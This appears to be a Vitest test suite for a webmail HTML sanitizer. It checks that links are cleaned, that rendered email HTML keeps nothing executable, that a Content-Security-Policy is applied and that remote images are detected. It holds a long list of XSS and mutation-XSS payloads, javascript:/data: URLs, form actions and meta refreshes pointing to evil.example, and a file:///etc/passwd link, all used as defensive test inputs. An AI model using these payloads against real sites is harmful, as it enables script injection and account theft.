// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { clean, hasRemote, isBlank, type Node, page, read, safeHref } from './rich';

const ORIGIN = 'https://inbox.harbour.example';

/** Everything that a tree would make of a page: tags, and where links lead. */
function made(nodes: Node[] | null): string {
  if (nodes === null) return 'a frame';
  return nodes
    .map((node) =>
      node.kind === 'text'
        ? JSON.stringify(node.text)
        : `${node.tag}${node.href ? `>${node.href}` : ''}(${made(node.children)})`,
    )
    .join(' ');
}

/** What is left of HTML, as a browser reads it. */
function left(html: string): Document {
  return new DOMParser().parseFromString(clean(html), 'text/html');
}

/** Ways in which HTML acts, calls elsewhere or leads astray. */
const HOSTILE = [
  '<script>evil()</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>evil()</script>',
  '<img src=x onerror=evil()>',
  '<img src=x OnErRoR = "evil()">',
  '<img src="x"onerror="evil()">',
  '<img/src=x/onerror=evil()>',
  '<body onload=evil()><p onpointerenter=evil() onfocus=evil() autofocus tabindex=1>x</p>',
  '<a href="javascript:evil()">x</a>',
  '<a href=" \u0001java\tscript:evil()">x</a>',
  '<a href="JaVaScRiPt&colon;evil()">x</a>',
  '<a href="vbscript:evil()">x</a><a href="data:text/html,<script>evil()</script>">y</a>',
  '<a href="/antiphon/v1/session">x</a><a href="//evil.example">y</a><a href="?a=b">z</a>',
  '<a href="https://ok.example" ping="https://evil.example" target=_top>x</a>',
  '<map><area shape=rect coords=0,0,9,9 href="javascript:evil()" rel=opener></map>',
  '<svg onload=evil()><script>evil()</script></svg>',
  '<svg><a href="https://ok.example"><animate attributeName=href values="javascript:evil()"/><text>x</text></a></svg>',
  '<svg><a xlink:href="javascript:evil()"><text>x</text></a><use href="data:image/svg+xml,<svg onload=evil()>"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>evil()</script>"></iframe></foreignObject></svg>',
  '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
  '<math href="javascript:evil()">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
  '<template><script>evil()</script></template><template shadowrootmode=open><script>evil()</script></template>',
  '<iframe src="javascript:evil()"></iframe><iframe srcdoc="<script>evil()</script>"></iframe>',
  '<object data="javascript:evil()"></object><embed src="javascript:evil()"><applet code=evil></applet>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:evil()">Go</button></form>',
  '<input type=image src="https://evil.example/x" formaction="javascript:evil()">',
  '<frameset onload=evil()><frame src="javascript:evil()"></frameset>',
  '<portal src="https://evil.example"></portal>',
  '<div srcdoc="x" action="javascript:evil()" onclick=evil()>x</div>',
  '<p>\u202Egnp.exe</p><!-- --!><img src=x onerror=evil()> -->',
  '<xmp><script>evil()</script></xmp><plaintext><script>evil()</script>',
  '<table><td background="javascript:evil()" style="behavior:url(evil.htc)">x</td></table>',
];

describe('a link', () => {
  it.each([
    ['https://a.example/x?y=1#z', 'https://a.example/x?y=1#z'],
    ['HTTP://A.example', 'http://a.example/'],
    ['mailto:ana@harbour.example', 'mailto:ana@harbour.example'],
    ['tel:+31205550178', 'tel:+31205550178'],
    ['javascript:evil()', undefined],
    ['\u0001javascript:evil()', undefined],
    ['java\nscript:evil()', undefined],
    ['JAVASCRIPT:evil()', undefined],
    ['vbscript:evil()', undefined],
    ['data:text/html,x', undefined],
    ['blob:https://a.example/1', undefined],
    ['file:///etc/passwd', undefined],
    ['about:blank', undefined],
    ['ms-word:ofe|u|https://evil.example/x.docx', undefined],
    ['//evil.example', undefined],
    ['/inbox/', undefined],
    ['x', undefined],
    ['https://', undefined],
    ['', undefined],
    [null, undefined],
  ])('%j leads to %j', (href, expected) => {
    expect(safeHref(href)).toBe(expected);
  });
});

describe('a tree', () => {
  it.each(HOSTILE)('of %s holds words and safe links, or is none', (html) => {
    const tree = made(read(html));
    expect(tree.replaceAll(/"(?:[^"\\]|\\.)*"/gu, '')).not.toMatch(/javascript|vbscript|data:|evil\.example|script|iframe|object/iu);
  });

  it.each([
    ['<p>Yes, <b>both</b></p>', 'p("Yes, " b("both"))'],
    ['<strike>x</strike><section>y</section>', 's("x") div("y")'],
    ['<p onclick="evil()" class="a" id="app">x</p>', 'p("x")'],
    ['<a href="javascript:evil()">x</a>', 'a("x")'],
    ['<a href="https://a.example">x</a>', 'a>https://a.example/("x")'],
    ['<script>evil()</script>x', '"x"'],
    ['<p style="position:fixed">x</p>', 'a frame'],
    ['<img src="https://a.example/x">', 'a frame'],
    ['<svg></svg>', 'a frame'],
    ['<style>*{}</style>x', 'a frame'],
    ['&lt;script&gt;', '"<script>"'],
    ['', ''],
  ])('of %s is %s', (html, expected) => {
    expect(made(read(html))).toBe(expected);
  });

  it('has an end, however deep it is', () => {
    expect(read('<div>'.repeat(30) + 'x')).not.toBeNull();
    expect(read('<div>'.repeat(200) + 'x')).toBeNull();
  });

  it('knows when there is nothing to see', () => {
    expect(isBlank(read('<p> </p><div><span>\n</span></div>') ?? [])).toBe(true);
    expect(isBlank(read('<p><br></p>') ?? [])).toBe(false);
    expect(isBlank(read('<p>x</p>') ?? [])).toBe(false);
  });
});

describe('a letter', () => {
  it.each(HOSTILE)('with %s keeps nothing that acts', (html) => {
    // Read as a browser does, and written and read once more: what changes between the two must not come alive.
    for (const source of [html, clean(html), `<table><tr><td>${html}</td></tr></table>`]) {
      const document = left(source);
      const bad = document.querySelectorAll(
        'script, iframe, frame, object, embed, applet, base, meta, link, template, noscript, portal, svg, math, input[type="image"]',
      );
      expect([...bad].map((one) => one.outerHTML)).toEqual([]);
      for (const element of document.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^(?:srcdoc|ping|formaction|action|target|autofocus)$/iu);
          if (/href$/iu.test(name)) expect(value).toMatch(/^(?:https?:|mailto:|tel:|#)/u);
          if (name === 'rel') expect(value).toBe('noopener noreferrer nofollow');
        }
        if (['a', 'area'].includes(element.localName)) expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      }
    }
  });

  it('keeps its looks', () => {
    const html = '<style>p{color:red}</style><table bgcolor="#fff"><tr><td style="padding:4px"><a href="https://a.example/">x</a></td></tr></table>';
    const document = left(html);
    expect(document.querySelector('style')?.textContent).toBe('p{color:red}');
    expect(document.querySelector('td')?.getAttribute('style')).toBe('padding:4px');
    expect(document.querySelector('a')?.getAttribute('href')).toBe('https://a.example/');
  });

  it.each([false, true])('stands on a page whose policy says what may be fetched (pictures from elsewhere: %s)', (remote) => {
    const source = page('<p>x</p>"><meta http-equiv="Content-Security-Policy" content="">', remote, 'p{}', ORIGIN);
    const document = new DOMParser().parseFromString(source, 'text/html');
    const policies = [...document.querySelectorAll('meta[http-equiv]')].map((meta) => meta.getAttribute('content') ?? '');
    expect(policies).toHaveLength(1);
    const policy = new Map((policies[0] ?? '').split(';').map((one) => one.trim().split(/\s(.*)/su) as [string, string]));
    expect(policy.get('default-src')).toBe("'none'");
    expect(policy.has('script-src')).toBe(false);
    expect(policy.get('form-action')).toBe("'none'");
    expect(policy.get('base-uri')).toBe("'none'");
    expect(policy.get('font-src')).toBe("'none'");
    expect(policy.get('img-src')).toBe(remote ? 'data: cid: https: http:' : `data: cid: ${ORIGIN}/files/`);
    // The policy comes before anything that it is about.
    expect(source.indexOf('Content-Security-Policy')).toBeLessThan(source.indexOf('<style>'));
    expect(document.querySelectorAll('base')).toHaveLength(1);
  });

  it.each([
    ['<img src="https://a.example/x.png">', true],
    ['<img src="//a.example/x.png">', true],
    ['<IMG SRC=HTTP://a.example/x.png>', true],
    ['<img srcset="https://a.example/x.png 2x">', true],
    ['<table background="https://a.example/x.png"></table>', true],
    ['<p style="background:url(https://a.example/x)">x</p>', true],
    ['<style>p{background:url( "//a.example/x")}</style>', true],
    [`<img src="${ORIGIN}/files/1/2/x.png">`, false],
    [`<img src="${ORIGIN}.evil.example/x.png">`, true],
    ['<img src="data:image/png;base64,AAAA">', false],
    ['<img src="cid:1">', false],
    ['<a href="https://a.example/">x</a>', false],
    ['', false],
  ])('%s asks for pictures from elsewhere: %s', (html, expected) => {
    expect(hasRemote(html, ORIGIN)).toBe(expected);
  });

  it('of any length takes no longer than it has to', () => {
    const started = performance.now();
    for (const html of ['url('.repeat(50_000), `url(${' '.repeat(200_000)}`, '<!--'.repeat(50_000)]) {
      hasRemote(html, ORIGIN);
      clean(html);
      read(html);
    }
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});
